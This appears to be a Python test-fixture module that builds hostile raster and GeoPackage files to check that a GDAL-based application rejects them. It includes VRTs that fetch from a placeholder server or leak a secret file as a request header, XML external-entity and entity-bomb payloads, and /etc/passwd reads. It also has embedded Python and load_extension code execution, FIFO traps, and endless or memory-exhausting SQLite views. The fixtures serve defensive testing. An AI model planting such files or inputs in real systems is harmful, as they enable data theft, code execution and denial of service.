"""Files that would make GDAL ask a server, read other files, run code or wait for ever."""

from __future__ import annotations

import os
import sqlite3
from xml.sax.saxutils import escape

import numpy as np
import rasterio
from rasterio.transform import from_origin

SECRET = "TOP-SECRET-VALUE"
SOURCED = (
    '<VRTDataset rasterXSize="8" rasterYSize="8">{before}<VRTRasterBand dataType="Byte" band="1">'
    '<SimpleSource><SourceFilename relativeToVRT="{relative}">{source}</SourceFilename>'
    "<SourceBand>1</SourceBand></SimpleSource></VRTRasterBand></VRTDataset>"
)


def vrt(source, relative=0, before=""):
    return SOURCED.format(source=source, relative=relative, before=before)


def tif(path, **options):
    place = {"crs": "EPSG:4326", "transform": from_origin(5, 50, 0.1, 0.1), **options}
    with rasterio.open(path, "w", driver="GTiff", dtype="uint8", count=1, height=8, width=8, **place) as file:
        file.write(np.arange(64, dtype=np.uint8).reshape(1, 8, 8))
    return path


def wms(url, cache):
    window = (
        "<DataWindow><UpperLeftX>-180</UpperLeftX><UpperLeftY>90</UpperLeftY><LowerRightX>180</LowerRightX>"
        "<LowerRightY>-90</LowerRightY><SizeX>64</SizeX><SizeY>64</SizeY></DataWindow>"
    )
    return (
        f'<GDAL_WMS><Service name="TMS"><ServerUrl>{url}/${{z}}/${{x}}/${{y}}.png</ServerUrl></Service>{window}'
        "<Projection>EPSG:4326</Projection><BandsCount>3</BandsCount><BlockSizeX>64</BlockSizeX>"
        f"<BlockSizeY>64</BlockSizeY><Cache><Path>{cache}</Path></Cache></GDAL_WMS>"
    )


STACIT = """{"type": "FeatureCollection", "stac_version": "1.0.0", "features": [{"type": "Feature",
"stac_version": "1.0.0", "id": "a", "bbox": [0, 0, 1, 1], "collection": "c", "properties": {},
"stac_extensions": ["https://stac-extensions.github.io/projection/v1.0.0/schema.json"],
"assets": {"B1": {"href": "URL/s.tif", "type": "image/tiff; application=geotiff", "proj:epsg": 4326,
"proj:transform": [0.1, 0, 0, 0, -0.1, 1, 0, 0, 1], "proj:shape": [10, 10]}}}]}"""
PYTHON = (
    '<VRTDataset rasterXSize="8" rasterYSize="8"><VRTRasterBand dataType="Byte" band="1" '
    'subClass="VRTDerivedRasterBand"><PixelFunctionType>run</PixelFunctionType><PixelFunctionLanguage>Python'
    "</PixelFunctionLanguage><PixelFunctionCode><![CDATA[\nopen({made!r}, 'w').close()\n"
    "def run(*arguments, **rest): pass\n]]></PixelFunctionCode></VRTRasterBand></VRTDataset>"
)
RAW = (
    '<VRTDataset rasterXSize="4" rasterYSize="2"><VRTRasterBand dataType="Byte" band="1" '
    'subClass="VRTRawRasterBand"><SourceFilename relativeToVRT="0">{secret}</SourceFilename>'
    "<ImageOffset>0</ImageOffset><PixelOffset>1</PixelOffset><LineOffset>4</LineOffset></VRTRasterBand>"
    "</VRTDataset>"
)
WARPED = (
    '<VRTDataset rasterXSize="8" rasterYSize="8" subClass="VRTWarpedDataset"><VRTRasterBand dataType="Byte" '
    'band="1" subClass="VRTWarpedRasterBand"/><BlockXSize>8</BlockXSize><BlockYSize>8</BlockYSize>'
    '<GDALWarpOptions><SourceDataset relativeToVRT="0">/vsicurl/URL/w.tif</SourceDataset><BandList>'
    '<BandMapping src="1" dst="1"/></BandList></GDALWarpOptions></VRTDataset>'
)
MASKED = '<Metadata><MDI key="INTERNAL_MASK_FLAGS_1">2</MDI><MDI key="INTERNAL_MASK_FLAGS_DEFAULT">2</MDI></Metadata>'
#: Files of text, by name; URL, SECRET and FOLDER are filled in.
TEXTS = {
    "vsicurl": vrt("/vsicurl/URL/a.tif"),
    "http": vrt("URL/b.tif"),
    "header file": vrt("/vsicurl?header_file=SECRET&amp;url=URL/c.tif"),
    "streaming": vrt("/vsicurl_streaming/URL/d.tif"),
    "zip on a server": vrt("/vsizip//vsicurl/URL/e.zip/e.tif"),
    "vrt prefix": vrt("vrt:///vsicurl/URL/f.tif"),
    "inline": vrt(escape(vrt("/vsicurl/URL/g.tif"))),
    "wms inside": vrt(escape(wms("URL", "FOLDER/cache"))),
    "mask band": SOURCED.replace("{before}", "")
    .replace(
        "</VRTDataset>",
        '<MaskBand><VRTRasterBand dataType="Byte"><SimpleSource><SourceFilename>/vsicurl/URL/h.tif'
        "</SourceFilename></SimpleSource></VRTRasterBand></MaskBand></VRTDataset>",
    )
    .format(source="good.tif", relative=1),
    "overview": SOURCED.replace(
        "</VRTRasterBand>",
        "<Overview><SourceFilename>/vsicurl/URL/i.tif</SourceFilename>"
        "<SourceBand>1</SourceBand></Overview></VRTRasterBand>",
    ).format(source="good.tif", relative=1, before=""),
    "open options": SOURCED.replace(
        "<SourceBand>",
        '<OpenOptions><OOI key="OVERVIEW_LEVEL">/vsicurl/URL/j.tif</OOI></OpenOptions><SourceBand>',
    ).format(source="good.tif", relative=1, before=""),
    "overview metadata": vrt(
        "good.tif",
        1,
        '<Metadata domain="OVERVIEWS"><MDI key="OVERVIEW_FILE">/vsicurl/URL/k.tif</MDI></Metadata>',
    ),
    "array": '<VRTDataset><Group name="/"><Array name="a"><DataType>Byte</DataType><Dimension name="x" size="4"/>'
    "<Source><SourceFilename>/vsicurl/URL/l.tif</SourceFilename></Source></Array></Group></VRTDataset>",
    "entities": '<!DOCTYPE VRTDataset [<!ENTITY a SYSTEM "SECRET">]>' + vrt("&a;"),
    "bombs": '<!DOCTYPE V [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>' + vrt("&b;"),
    "warped": WARPED,
    "raw": RAW.format(secret="SECRET"),
    "raw passwd": RAW.format(secret="/etc/passwd"),
    "python": PYTHON.format(made="FOLDER/made-by-python"),
    "outside": vrt("OUTSIDE/away.tif"),
    "outside by dots": vrt("../outside/away.tif", 1),
    "outside by a link": vrt("link.tif", 1),
    "a pipe as source": vrt("pipe", 1),
    "a text as source": vrt("SECRET"),
    "itself": vrt("itself.png", 1),
    "wms": wms("URL", "FOLDER/cache"),
    "wmts": "<GDAL_WMTS><GetCapabilitiesUrl>URL/wmts</GetCapabilitiesUrl></GDAL_WMTS>",
    "wcs": "<WCS_GDAL><ServiceURL>URL/wcs?</ServiceURL><CoverageName>a</CoverageName><Version>1.0.0</Version></WCS_GDAL>",
    "stacit": STACIT,
    "list": "URL/m.tif\n/etc/passwd\n",
    "index": "<GDALTileIndexDataset><IndexDataset>/vsicurl/URL/n.gpkg</IndexDataset></GDALTileIndexDataset>",
    "polyglot bitmap": "BM" + vrt("/vsicurl/URL/o.tif"),
    "source polyglot": vrt("polyglot.bmp", 1),
}
#: Of these, GDAL by itself asks the server: what proves that the trap is one.
LIVE = ("vsicurl", "http", "header file", "streaming", "vrt prefix", "inline", "wms", "wmts", "polyglot bitmap",
        "source polyglot", "a mask that is a VRT", "a tag for overviews", "overviews in aux.xml")  # fmt: skip


def write_hostile(folder, url):
    """Every hostile file as an image of its name; what they lead to lies beside, and in ``outside``."""
    outside = folder.parent / "outside"
    outside.mkdir(exist_ok=True)
    tif(outside / "away.tif")
    secret = outside / "secret"
    secret.write_text(f"X-Secret: {SECRET}\n")
    tif(folder / "good.tif")
    os.mkfifo(folder / "pipe")
    (folder / "link.tif").symlink_to(outside / "away.tif")
    filled = {"URL": url, "SECRET": str(secret), "FOLDER": str(folder), "OUTSIDE": str(outside)}
    made = {}

    def fill(text):
        for word, value in filled.items():
            text = text.replace(word, value)
        return text

    (folder / "polyglot.bmp").write_text("BM" + fill(vrt("/vsicurl/URL/p.tif")))
    for name, text in TEXTS.items():
        made[name] = folder / f"{name}.png"
        made[name].write_text(fill(text))
    made["a mask that is a VRT"] = tif(folder / "masked.tif")
    (folder / "masked.tif.msk").write_text(fill(vrt("/vsicurl/URL/q.tif", before=MASKED)))
    made["overviews that are a VRT"] = tif(folder / "viewed.tif")
    (folder / "viewed.tif.ovr").write_text(fill(vrt("/vsicurl/URL/r.tif")))
    made["overviews in aux.xml"] = tif(folder / "aux.tif")
    (folder / "aux.tif.aux.xml").write_text(
        f'<PAMDataset><Metadata domain="OVERVIEWS"><MDI key="OVERVIEW_FILE">/vsicurl/{url}/s.tif</MDI></Metadata>'
        "</PAMDataset>"
    )
    made["a tag for overviews"] = tif(folder / "tag.tif")
    with rasterio.open(folder / "tag.tif", "r+") as file:
        file.update_tags(ns="OVERVIEWS", OVERVIEW_FILE=f"/vsicurl/{url}/t.tif")
    for name in ("a pipe as aux.xml", "a pipe as world file", "a pipe as mask"):
        end = {
            "a pipe as aux.xml": ".tif.aux.xml",
            "a pipe as world file": ".tfw",
            "a pipe as mask": ".tif.msk",
        }[name]
        made[name] = tif(folder / f"{name}.tif")
        os.mkfifo(folder / f"{name}{end}")
    made["a CRS that opens a pipe"] = tif(folder / "crs.tif", crs=None)
    (folder / "crs.tif.aux.xml").write_text(
        f"<PAMDataset><SRS>{escape(grids(folder / 'pipe'))}</SRS></PAMDataset>"
    )
    made["a pipe"] = folder / "pipe.tif"
    os.mkfifo(folder / "pipe.tif")
    return made


def grids(path):
    """A CRS in WKT whose shift of datum lies in a file."""
    datum = f'DATUM["unknown",SPHEROID["a",6378137,298.257],EXTENSION["PROJ4_GRIDS","{path}"]]'
    geographic = f'GEOGCS["x",{datum},PRIMEM["Greenwich",0],UNIT["degree",0.0174532925199433]]'
    parameters = {"latitude_of_origin": 0, "central_meridian": 3, "scale_factor": 1}
    parameters |= {"false_easting": 0, "false_northing": 0}
    text = "".join(f'PARAMETER["{name}",{value}],' for name, value in parameters.items())
    return f'PROJCS["x",{geographic},PROJECTION["Transverse_Mercator"],{text}UNIT["metre",1]]'


# --- GeoPackages ----------------------------------------------------------------------------------

_VIEW = "is a view, which runs code when it is read"
_ENDLESS = "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT"
_ADD = (
    "INSERT INTO sqlite_master(type, name, tbl_name, rootpage, sql) VALUES('table', '{0}', '{0}', 0, '{1}')"
)
_LAYER = "INSERT INTO gpkg_contents(table_name, data_type, identifier) VALUES('{0}', 'attributes', '{0}')"


def write_hostile_gpkg(path, case, url):
    """Change a GeoPackage with the layer ``t``; return what it is refused with, or None: it is harmless."""
    statements, message = write_hostile_gpkg.cases[case]
    with sqlite3.connect(path) as base:
        if case.startswith("view"):
            base.execute("DELETE FROM gpkg_extensions")
            base.execute("DROP TABLE gpkg_ogr_contents")
            for (name,) in base.execute("SELECT name FROM sqlite_master WHERE type = 'trigger'").fetchall():
                base.execute(f'DROP TRIGGER "{name}"')
            base.execute("ALTER TABLE t RENAME TO u")
        if case.startswith("virtual"):
            base.execute("PRAGMA writable_schema = 1")
        for statement in statements:
            base.execute(statement.replace("URL", url))
    base.close()
    return message


write_hostile_gpkg.cases = {
    "view": (["CREATE VIEW t AS SELECT fid, geom, filename, label FROM u"], f"layer t {_VIEW}"),
    "view that geocodes": (
        ["CREATE VIEW t AS SELECT fid, geom, filename, CAST(ogr_geocode('x') AS TEXT) AS label FROM u"],
        f"layer t {_VIEW}",
    ),
    "view of pixels": (
        [
            "CREATE VIEW t AS SELECT fid, geom, filename, "
            "gdal_get_pixel_value('/vsicurl/URL/a.tif', 1, 'georef', 0, 0) AS label FROM u"
        ],
        f"layer t {_VIEW}",
    ),
    "view that loads": (
        ["CREATE VIEW t AS SELECT fid, geom, filename, load_extension('x.so') AS label FROM u"],
        f"layer t {_VIEW}",
    ),
    "view without end": (
        [
            "ALTER TABLE u RENAME TO t",
            "ALTER TABLE gpkg_contents RENAME TO old",
            f"CREATE VIEW gpkg_contents AS {_ENDLESS} 't' AS table_name, 'features' AS data_type FROM c",
        ],
        f"gpkg_contents {_VIEW}",
    ),
    "computed": (
        ["ALTER TABLE t ADD COLUMN z TEXT GENERATED ALWAYS AS (hex(zeroblob(400000000)))"],
        "column z of t is computed",
    ),
    "virtual": (
        [_ADD.format("x", 'CREATE VIRTUAL TABLE x USING VirtualOGR("/vsicurl/URL/a.csv", 0)')],
        "virtual tables",
    ),
    "virtual called rtree": (
        [
            _ADD.format(
                "x using rtree", 'CREATE VIRTUAL TABLE "x using rtree" USING VirtualOGR("/vsicurl/URL/a")'
            ),
            _LAYER.format("x using rtree"),
        ],
        "virtual tables",
    ),
    "virtual behind a comment": (
        [
            _ADD.format(
                "x", "CREATE /* " + "x" * 60 + ' */ VIRTUAL TABLE x USING VirtualShape("/etc/passwd")'
            ),
            _LAYER.format("x"),
        ],
        "virtual tables",
    ),
    "trigger and extension": (
        [
            "CREATE TRIGGER a BEFORE UPDATE ON t BEGIN SELECT load_extension('x.so'); END",
            "INSERT INTO gpkg_extensions VALUES('t', 'label', 'gdal_evil', 'URL', 'read-write')",
        ],
        None,
    ),
    "crs with an address": (
        [
            "UPDATE gpkg_spatial_ref_sys SET definition = 'URL/x.wkt', organization = 'x', "
            "organization_coordsys_id = 77 WHERE srs_id = 4326"
        ],
        None,
    ),
    "no geopackage": (["DROP TABLE gpkg_contents"], "is a database and no GeoPackage"),
    "tiles": (["UPDATE gpkg_contents SET data_type = 'tiles'"], "has no layer of features and no table"),
}
